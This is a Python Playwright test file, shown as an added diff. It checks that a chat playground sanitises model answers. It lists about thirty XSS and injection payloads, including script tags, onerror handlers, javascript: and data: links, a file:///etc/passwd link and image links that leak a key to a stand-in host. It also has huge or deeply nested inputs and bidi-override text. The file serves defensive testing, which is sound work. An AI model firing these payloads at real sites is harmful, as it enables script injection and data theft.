@@ -1,0 +1,174 @@
+"""A model's text is hostile: nothing in it runs, loads anything, or holds up the page."""
+
+import time
+
+import pytest
+from playwright.async_api import expect
+
+from deployments.contract import FinishReason, TextDelta
+from tests.serve_app.playground.served_page import Models, Page
+
+ALLOWED = (
+    *("P", "BR", "HR", "H3", "H4", "H5", "H6", "STRONG", "EM", "S", "A", "CODE", "PRE", "DIV"),
+    *("BLOCKQUOTE", "UL", "OL", "LI", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"),
+)
+"""The elements that a text may become."""
+
+HOSTILE = (
+    "<script>document.body.dataset.owned = 1</script>",
+    "<img src=x onerror='document.body.dataset.owned = 1'>",
+    "<svg/onload=document.body.dataset.owned=1>",
+    "<iframe srcdoc='<script>parent.document.body.dataset.owned = 1</script>'></iframe>",
+    "<style>* { display: none }</style>",
+    "<form action=https://elsewhere.example><input name=key></form>",
+    "<a href='javascript:document.body.dataset.owned=1'>press</a>",
+    "[press](javascript:document.body.dataset.owned=1)",
+    "[press](JaVaScRiPt:document.body.dataset.owned=1)",
+    "[press](java&#10;script:document.body.dataset.owned=1)",
+    "[press](data:text/html,<script>alert(1)</script>)",
+    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[press](vbscript:msgbox)",
+    "[press](file:///etc/passwd)",
+    "[press](//elsewhere.example/path)",
+    "[press](v1/models)",
+    "![stolen](https://elsewhere.example/a.png?key=1)",
+    "[![stolen](https://elsewhere.example/b.png)](https://elsewhere.example)",
+    "![stolen](data:image/svg+xml;base64,PHN2Zy8+)",
+    '<https://elsewhere.example/?a="onmouseover="document.body.dataset.owned=1>',
+    "[x]: https://elsewhere.example '\" onmouseover=document.body.dataset.owned=1'\n\n[x]",
+    "```<img src=x onerror=document.body.dataset.owned=1>\n<script>alert(1)</script>\n```",
+    "`<script>document.body.dataset.owned=1</script>`",
+    "&lt;script&gt;document.body.dataset.owned=1&lt;/script&gt;",
+    "<math><mtext><table><mglyph><style><img src=x onerror=document.body.dataset.owned=1>",
+    '<noscript><p title="</noscript><img src=x onerror=document.body.dataset.owned=1>">',
+    "| a |\n|:-:|\n| <img src=x onerror=document.body.dataset.owned=1> |",
+    "<base href=https://elsewhere.example/>",
+    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
+    "<div id=status name=getElementById style='position:fixed;inset:0'>",
+)
+
+INSPECT = """
+[...document.querySelectorAll(".prose *")].map((element) => ({
+  tag: element.tagName,
+  attributes: Object.fromEntries([...element.attributes].map(({name, value}) => [name, value])),
+}))
+"""
+
+
+def whole(text: str) -> list[list[TextDelta]]:
+    return [[TextDelta((1,), text, FinishReason.STOP)]]
+
+
+async def answered(page: Page, models: Models, text: str) -> None:
+    models.chat.steps = [*whole(text)]
+    await page.open()
+    await page.ask("Say it")
+    await page.is_done()
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "\n\n".join(HOSTILE)])
+async def test_nothing_in_an_answer_runs_or_loads(page: Page, models: Models, text: str) -> None:
+    await answered(page, models, text)
+    await expect(page.answer.locator(".prose")).not_to_be_empty()
+    for element in await page.tab.evaluate(INSPECT):
+        assert element["tag"] in ALLOWED
+        attributes = element["attributes"]
+        assert not any(
+            name.startswith("on") or name in ("style", "src", "id") for name in attributes
+        )
+        if "href" in attributes:
+            assert attributes["href"].startswith(("http://", "https://"))
+            assert attributes["rel"] == "noopener noreferrer"
+            assert attributes["target"] == "_blank"
+    assert await page.tab.evaluate("document.body.dataset.owned ?? 'untouched'") == "untouched"
+    assert not await page.is_wider_than_the_window()
+
+
+async def test_what_is_shown_is_what_the_model_has_said(page: Page, models: Models) -> None:
+    said = "<b>bold?</b> & &amp; <script>1</script>"
+    await answered(page, models, said)
+    await expect(page.answer.locator(".prose")).to_have_text("<b>bold?</b> & & <script>1</script>")
+
+
+async def test_markdown_is_shown_as_markdown(page: Page, models: Models) -> None:
+    text = (
+        "# Title\n\n- one\n- **two**\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
+        "```py\nx = 1\n```\n\n[link](https://example.org)"
+    )
+    await answered(page, models, text)
+    prose = page.answer.locator(".prose")
+    await expect(prose.locator("h3")).to_have_text("Title")
+    await expect(prose.locator("li")).to_have_count(2)
+    await expect(prose.locator("td[align=right]")).to_have_text("2")
+    await expect(prose.locator("pre")).to_have_text("x = 1\n")
+    await expect(prose.get_by_role("link")).to_have_attribute("href", "https://example.org")
+
+
+ROWS = "| a | b | c |\n|---|---|---|\n"
+HUGE = {
+    "a megabyte without a space": "x" * 1_000_000,
+    "a megabyte of lines": "one line\n" * 110_000,
+    "a megabyte of stars": "*" * 1_000_000,
+    "a megabyte of brackets": "[" * 1_000_000,
+    "a huge table": ROWS + "| 1 | 2 | 3 |\n" * 70_000,
+    "a table that is rendered": ROWS + "| 1 | 2 | 3 |\n" * 2_500,
+    "a wide table that is rendered": f"{'|a' * 9_000}|\n{'|-' * 9_000}|\n",
+    "deep quotes": "> " * 15_000 + "deep",
+    "deep lists": "\n".join("  " * depth + "- x" for depth in range(180)),
+    "nested brackets": "[" * 15_000 + "a" + "](b)" * 5_000,
+    "backticks": " ".join("`" * n for n in range(1, 250)),
+    "emphasis": "**a *b " * 5_000,
+    "surrogates": "🙂" * 300_000,
+}
+
+
+@pytest.mark.parametrize("text", HUGE.values(), ids=HUGE)
+async def test_a_huge_answer_does_not_hold_up_the_page(
+    page: Page, models: Models, text: str
+) -> None:
+    parts = [text[start : start + 50_000] for start in range(0, len(text), 50_000)]
+    models.chat.steps = [
+        *([TextDelta((i,), part)] for i, part in enumerate(parts)),
+        [TextDelta((0,), "", FinishReason.STOP)],
+    ]
+    await page.open()
+    begun = time.monotonic()
+    await page.ask("Say it")
+    await page.is_done()
+    # The page still answers: to a key, and to a change of tabs.
+    await page.page.get_by_label("Your message").fill("next")
+    await page.show("Classify")
+    await page.show("Chat")
+    assert time.monotonic() - begun < 30
+    assert not await page.is_wider_than_the_window()
+    shown = await page.answer.locator(".prose").evaluate("(prose) => prose.textContent.length")
+    assert shown > 0
+    if len(text) > 100_000:
+        assert shown == len(text.encode("utf-16-le")) // 2
+
+
+async def test_right_to_left_text_and_marks_stay_in_their_box(page: Page, models: Models) -> None:
+    zalgo = "".join(letter + "\u0310\u0353\u0489" * 40 for letter in "zalgo")
+    text = f"שלום עולם\n\n\u202eevil\u202c and left\n\n\u202e unclosed\n\n{zalgo}"
+    await answered(page, models, text)
+    prose = page.answer.locator(".prose")
+    directions = await prose.evaluate(
+        "(prose) => [...prose.children].map((each) => getComputedStyle(each).unicodeBidi)"
+    )
+    assert set(directions) == {"plaintext"}
+    # Marks above and below the letters are cut at the box, and do not cover the page.
+    assert await prose.evaluate("(prose) => getComputedStyle(prose).overflow") == "clip"
+    # An override that is not closed does not turn what follows around.
+    assert await prose.evaluate("(prose) => prose.dir") == "auto"
+    assert not await page.is_wider_than_the_window()
+
+
+async def test_hostile_names_of_calls_and_notices_are_text(page: Page, models: Models) -> None:
+    models.chat.steps = [*whole("<img src=x onerror=document.body.dataset.owned=1>")]
+    await page.open()
+    await page.ask("<img src=x onerror=document.body.dataset.owned=1>")
+    await page.is_done()
+    await expect(page.page.locator(".asked")).to_have_text(
+        "<img src=x onerror=document.body.dataset.owned=1>"
+    )
+    assert await page.tab.evaluate("document.body.dataset.owned ?? 'untouched'") == "untouched"
